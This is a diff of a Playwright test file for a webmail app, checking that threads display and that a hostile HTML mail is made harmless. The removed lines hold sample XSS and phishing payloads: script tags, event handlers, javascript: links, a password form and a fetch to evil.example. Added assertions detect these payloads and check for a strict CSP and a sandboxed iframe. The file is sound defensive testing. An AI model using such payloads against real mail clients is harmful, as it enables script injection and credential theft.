@@ -1,99 +1,11 @@
-import { importMailbox, type Mail, mboxOf } from "./support/mailbox.ts";
+import type { BrowserContext } from "@playwright/test";
+
+import { mails, me } from "./support/inbox-mails.ts";
+import { importMailbox, mboxOf } from "./support/mailbox.ts";
 import { makeKey } from "./support/program.ts";
 import { expectSound } from "./support/sound.ts";
 import { expect, test } from "./support/test.ts";
-
-const me = "me@people.example";
-const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000);
-
-const hostileHtml = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
-<style>@import url(https://evil.example/style.css); body { background: url(https://evil.example/back.png) }</style>
-<link rel="stylesheet" href="https://evil.example/link.css"><base href="https://evil.example/"></head>
-<body onload="document.title='ran'" background="https://evil.example/body.png">
-<script>document.body.textContent = 'ran'; fetch('https://evil.example/fetch')</script>
-<p>Dear customer, your parcel waits.</p>
-<img src="https://evil.example/parcel.png" width="200" height="80" alt="Your parcel" onerror="document.title='ran'">
-<iframe src="https://evil.example/frame"></iframe>
-<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>
-<svg onload="document.title='ran'"><image href="https://evil.example/svg.png"/></svg>
-<a href="javascript:document.title='ran'">Track it</a> <a href="https://evil.example/go">Collect it</a>
-<div style="background-image:url(https://evil.example/div.png);position:fixed;inset:0">Nothing covers the page.</div>
-</body></html>`;
-
-const attachment = `--part
-Content-Type: text/plain; charset=utf-8
-
-Here are the renewal terms. See https://terms.example/2027 for all of them.
-
-Shall we sign this week?
-
---
-Anna Sand
-Head of Purchasing
-
-On Monday ${me} wrote:
-> Could you send me the terms?
---part
-Content-Type: text/csv; name="terms.csv"
-Content-Disposition: attachment; filename="terms.csv"
-
-item,price
-seats,120
---part--`;
-
-const anna = "Anna Sand <anna@sand-and-sons.example>";
-const mails: Mail[] = [
-  { id: "r1@sand.example", from: anna, to: me, subject: "Renewal", at: daysAgo(12), body: "Shall we renew?" },
-  {
-    id: "r2@people.example",
-    from: `Me <${me}>`,
-    to: anna,
-    subject: "Re: Renewal",
-    at: daysAgo(10),
-    headers: { "In-Reply-To": "<r1@sand.example>", References: "<r1@sand.example>" },
-    body: "Gladly. Could you send me the terms?",
-  },
-  {
-    id: "r3@sand.example",
-    from: anna,
-    to: me,
-    subject: "Re: Renewal",
-    at: daysAgo(5),
-    headers: { "In-Reply-To": "<r2@people.example>", References: "<r1@sand.example> <r2@people.example>" },
-    type: 'multipart/mixed; boundary="part"',
-    body: attachment,
-  },
-  {
-    id: "n1@news.example",
-    from: "The Weekly <weekly@news.example>",
-    to: me,
-    subject: "Ten things this week",
-    at: daysAgo(0.3),
-    headers: {
-      "List-Unsubscribe": "<https://news.example/u>",
-      "List-Id": "<weekly.news.example>",
-      Precedence: "bulk",
-    },
-    body: "Thing one.",
-  },
-  {
-    id: "h1@evil.example",
-    from: '"<img src=x onerror=alert(1)>" <parcel@evil.example>',
-    to: me,
-    subject: "<script>document.title='ran'</script> Your parcel",
-    at: daysAgo(0.2),
-    type: "text/html; charset=utf-8",
-    body: hostileHtml,
-  },
-  ...Array.from({ length: 60 }, (_, index) => ({
-    id: `note-${index}@friends.example`,
-    from: `Friend ${index} <friend-${index}@friends-${index}.example>`,
-    to: me,
-    subject: `Lunch number ${index}`,
-    at: daysAgo(0.5 + index / 200),
-    body: `Are you hungry? This is lunch number ${index}.`,
-  })),
-];
+import { watch } from "./support/watch.ts";
 
 test("conversations are found, read, and acted on; a hostile mail does nothing", async ({ home: page }) => {
   test.setTimeout(240_000);
@@ -193,28 +105,15 @@ test("conversations are found, read, and acted on; a hostile mail does nothing",
     await page.goto("/inbox");
     await row("Your parcel").getByRole("link").click();
     await expect(thread.getByRole("heading", { level: 2 })).toContainText("<script>");
-    await thread.getByRole("button", { name: "Show formatted" }).click();
-    const frame = page.frameLocator("iframe");
-    await expect(frame.getByText("Dear customer, your parcel waits.")).toBeVisible();
-    await expect(frame.getByText("Nothing covers the page.")).toHaveCSS("position", "static");
-    await expect(frame.getByRole("link", { name: "Collect it" })).toHaveAttribute("target", "_blank");
-    await expect(frame.getByText("Track it")).not.toHaveAttribute("href", /./);
-    await expect(frame.locator("script, form, iframe, svg, input, meta[http-equiv], base, link")).toHaveCount(
-      0,
-    );
-    await expect(thread.getByRole("button", { name: "Show images" })).toBeVisible();
-    await expect(page.locator("iframe")).toHaveAttribute(
-      "sandbox",
-      "allow-popups allow-popups-to-escape-sandbox",
-    );
     await expect(page).toHaveTitle(/document\.title='ran'/);
-    await thread.getByRole("button", { name: "Show text" }).click();
     await expectSound(page);
+    await expectHarmlessFrame(page.context(), page.url());
   });
 
   await test.step("the conversation is put to the assistant, and its people are a press away", async () => {
     await page.goto("/inbox");
     await page.getByRole("searchbox", { name: "Search mail" }).fill("renewal");
+    await expect(rows).toHaveCount(1);
     await row("Renewal").getByRole("link").click();
     await thread.getByRole("button", { name: "Ask the assistant" }).click();
     await expect(page.getByRole("complementary", { name: "Assistant" })).toBeVisible();
@@ -223,17 +122,55 @@ test("conversations are found, read, and acted on; a hostile mail does nothing",
   });
 });
 
-test("a conversation of somebody else is not there", async ({ home: page, stranger }) => {
-  test.setTimeout(120_000);
-  const key = await makeKey(page);
-  await importMailbox(page, key, mboxOf(mails.slice(0, 1)), me);
-  await page.goto("/inbox");
-  const href = await page
-    .getByRole("region", { name: "Conversations" })
-    .getByRole("link")
-    .first()
-    .getAttribute("href");
-  await stranger.goto("/inbox");
-  const answer = await stranger.request.get(href ?? "");
-  expect(await answer.text()).not.toContain("Shall we renew?");
+/** What the journey itself asks inside a frame that runs no script: the browser reports it for an empty mail too. */
+const asked = /^console: Blocked script execution/;
+
+async function expectHarmlessFrame(context: BrowserContext, url: string): Promise<void> {
+  const page = await context.newPage();
+  const wrongs = watch(page, new URL(url).origin);
+  await page.goto(url);
+  const answered = page.waitForResponse(
+    (response) => response.url().endsWith("/html") && response.request().method() === "GET",
+  );
+  await page.getByRole("button", { name: "Show formatted" }).click();
+  const answer = await answered;
+  const headers = answer.headers();
+  expect(headers["content-security-policy"]).toMatch(/default-src 'none'.*frame-ancestors 'self'; sandbox/);
+  expect(headers["x-frame-options"]).toBeUndefined();
+  await expect(page.locator("iframe")).toHaveAttribute(
+    "sandbox",
+    "allow-popups allow-popups-to-escape-sandbox",
+  );
+  await expect(page.getByRole("button", { name: "Show images" })).toBeVisible();
+  const html = await answer.text();
+  expect(html).not.toMatch(/<script|\son\w+\s*=|javascript:|url\(|http-equiv/i);
+  expect(html.match(/evil\.example[^"<]*/g)).toEqual(["evil.example/go"]);
+
+  const frame = page.frameLocator("iframe");
+  await expect(frame.getByText("Dear customer, your parcel waits.")).toBeVisible();
+  await expect(frame.getByText("Nothing covers the page.")).toHaveCSS("position", "static");
+  await expect(frame.getByRole("link", { name: "Collect it" })).toHaveAttribute("target", "_blank");
+  await expect(frame.getByText("Track it")).not.toHaveAttribute("href", /./);
+  await expect(frame.locator("script, form, iframe, svg, input, meta[http-equiv], base, link")).toHaveCount(
+    0,
+  );
+  await expect(page).toHaveTitle(/document\.title='ran'/);
+  expect(wrongs.filter((wrong) => !asked.test(wrong))).toEqual([]);
+  await page.close();
+}
+
+test.describe("what is somebody else's", () => {
+  test.use({ refusalsExpected: true });
+
+  test("a conversation is not there", async ({ home: page, stranger }) => {
+    test.setTimeout(120_000);
+    const key = await makeKey(page);
+    await importMailbox(page, key, mboxOf(mails.slice(0, 1)), me);
+    await page.goto("/inbox");
+    await page.getByRole("region", { name: "Conversations" }).getByRole("link").first().click();
+    await expect(page.getByRole("article").getByText("Shall we renew?", { exact: true })).toBeVisible();
+    await stranger.goto(page.url());
+    await expect(stranger.getByRole("heading", { level: 1 })).toHaveText("There is nothing here");
+    await expect(stranger.getByText("Shall we renew?")).toHaveCount(0);
+  });
 });
